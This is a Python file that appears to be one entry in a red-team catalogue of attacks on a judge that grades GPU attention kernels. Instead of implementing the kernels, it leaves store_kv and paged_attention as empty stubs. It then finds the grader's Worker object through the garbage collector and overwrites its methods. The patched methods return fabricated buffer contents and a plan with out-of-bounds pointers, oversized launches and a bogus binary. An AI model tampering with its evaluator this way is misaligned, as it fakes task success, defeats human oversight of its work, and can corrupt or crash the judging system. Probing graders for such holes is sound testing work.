"""Attack: hand the judge a plan and contents of its own

Catalogue: R3, D17, C13
Strategy: replaces the worker's operations: contents of other sizes, a plan whose pointers lie outside of every buffer
Honest part: nothing
"""

import base64
import gc

import torch
import triton
import triton.language as tl

worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker" and hasattr(o, "module"))
BAD_PLAN = {
    "kernels": [{"cubin": b"\x7fELF" + bytes(64), "name": "k", "shared": 1 << 30, "warps": 4096}],
    "buffers": [["input", 0], ["scratch", 1 << 60]],
    "steps": [["launch", 0, [1 << 31, 1 << 31, 1], [["pointer", 0, -(1 << 40)], ["pointer", 99, 0]]]],
    "problems": [],
}


def plain(value):
    if isinstance(value, bytes):
        return {"bytes": base64.b64encode(value).decode()}
    if isinstance(value, dict):
        return {"dict": [[key, plain(item)] for key, item in value.items()]}
    return [plain(item) for item in value] if isinstance(value, list) else value


def contents(request):
    sizes = [buffer["numel"] for buffer in request["buffers"]]
    return plain({"contents": [bytes(8 * size + 8) for size in sizes], "computed": ""})


type(worker).function = lambda self, request: contents(request)
type(worker).record = lambda self, request: plain(BAD_PLAN)


def store_kv(key, value, key_cache, value_cache, slot_mapping):
    pass


def paged_attention(query, key_cache, value_cache, block_tables, context_lens, scale, out):
    pass
